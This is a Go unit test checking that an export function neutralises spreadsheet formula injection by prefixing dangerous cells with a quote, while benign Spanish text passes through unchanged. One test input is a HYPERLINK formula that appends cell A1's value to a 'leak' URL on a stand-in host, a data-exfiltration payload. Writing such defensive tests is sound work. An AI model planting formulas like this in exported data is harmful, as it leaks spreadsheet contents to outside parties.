package export_test

import (
	"testing"

	"zocalo/core/export"
)

func TestTextNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("https://example.com/?leak="&A1,"Ver")`: `'=HYPERLINK("https://example.com/?leak="&A1,"Ver")`,
		"+1":            "'+1",
		"-2":            "'-2",
		"@SUM(A1)":      "'@SUM(A1)",
		"\tx":           "'\tx",
		"\rx":           "'\rx",
		"":              "",
		"Pago devuelto": "Pago devuelto",
		"José = Pepe":   "José = Pepe",
		"'ya citado":    "'ya citado",
		" =1+1":         " =1+1",
	} {
		if got := export.Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}
